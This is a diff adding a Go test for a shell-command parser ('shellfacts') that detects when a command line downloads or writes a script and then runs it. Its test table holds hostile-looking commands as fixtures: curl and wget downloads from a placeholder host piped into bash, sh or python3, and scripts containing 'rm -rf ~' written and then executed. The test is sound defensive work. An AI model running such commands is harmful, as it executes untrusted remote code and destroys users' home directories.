@@ -1,0 +1,69 @@
+package shellfacts
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+// TestParseWrittenThenRun pins files the command line writes and then
+// runs: a download run by a shell, source or an interpreter is that
+// download piped in (PipeFrom), static text is parsed as the script, and
+// another program's output is unknown code.
+func TestParseWrittenThenRun(t *testing.T) {
+	root := fixture(t)
+	opts := Options{Cwd: root + "/repo", Home: root + "/home"}
+	tests := []struct {
+		command string
+		pipes   []string // "from|to" of every command fed, sorted
+		unknown bool
+		deletes bool // the written script's rm -rf ~ is seen
+	}{
+		{`curl -o x.sh https://x.example && bash x.sh`, []string{"curl|bash"}, false, false},
+		{`curl -sSLo x.sh https://x.example; . ./x.sh`, []string{"curl|."}, false, false},
+		{`curl https://x.example > /tmp/x.py; python3 /tmp/x.py`, []string{"curl|python3"}, false, false},
+		{`wget -q https://x.example/a/i.sh && sh i.sh`, []string{"wget|sh"}, false, false},
+		{`wget -O- https://x.example | tee i.sh; bash i.sh`, []string{"wget|bash", "wget|tee"}, false, false},
+		{`curl -o /tmp/a https://x.example && cp /tmp/a b.sh && sh b.sh`, []string{"curl|sh"}, false, false},
+		{`curl -o x https://x.example && chmod +x x && ./x`, []string{"curl|x"}, true, false},
+		{`echo 'rm -rf ~' > s.sh && bash s.sh`, nil, false, true},
+		{`printf 'rm -rf ~\n' | tee s.sh; sh s.sh`, []string{"printf|tee"}, false, true},
+		{"cat > s.sh <<'EOF'\nrm -rf ~\nEOF\nsource s.sh", nil, false, true},
+		{`echo x=1 > s.sh; echo 'rm -rf ~' >> s.sh; ./s.sh`, nil, false, true},
+		{`printf '#!/usr/bin/env python3\nrm -rf ~\n' > s; ./s`, nil, false, false},
+		{`base64 -d <<< eA== > s.sh; bash s.sh`, nil, true, false},
+		{`{ echo a; } > s.sh; bash s.sh`, nil, true, false},
+		{`echo 'echo hi' > s.sh; sed -i s/hi/x/ s.sh; bash s.sh`, nil, true, false},
+		// Not run, or run before it is written, or another file.
+		{`curl -o x.sh https://x.example && cat x.sh`, nil, false, false},
+		{`bash x.sh; curl -o x.sh https://x.example`, nil, false, false},
+		{`curl -o x.sh https://x.example && bash y.sh`, nil, false, false},
+		{`cat a.sh > b.sh; bash b.sh`, nil, false, false},
+		{`echo 'echo hi' > s.sh; chmod +x s.sh; ./s.sh`, nil, false, false},
+	}
+	for _, tt := range tests {
+		f, err := Parse(tt.command, opts)
+		if err != nil {
+			t.Fatalf("%q: %v", tt.command, err)
+		}
+		var pipes []string
+		for _, c := range f.Commands {
+			for _, up := range append(slices.Clone(c.Upstream), c.PipeFrom) {
+				if up != "" {
+					pipes = append(pipes, up+"|"+c.Name)
+				}
+			}
+		}
+		slices.Sort(pipes)
+		pipes = slices.Compact(pipes)
+		if !slices.Equal(pipes, tt.pipes) {
+			t.Errorf("%q: pipes %q, want %q", tt.command, pipes, tt.pipes)
+		}
+		if got := len(f.Unknown) > 0; got != tt.unknown {
+			t.Errorf("%q: unknown code %q, want %v", tt.command, f.Unknown, tt.unknown)
+		}
+		if got := slices.ContainsFunc(f.Deletes, func(d string) bool { return strings.HasSuffix(d, "/home") }); got != tt.deletes {
+			t.Errorf("%q: deletes %q, want the home directory: %v", tt.command, f.Deletes, tt.deletes)
+		}
+	}
+}
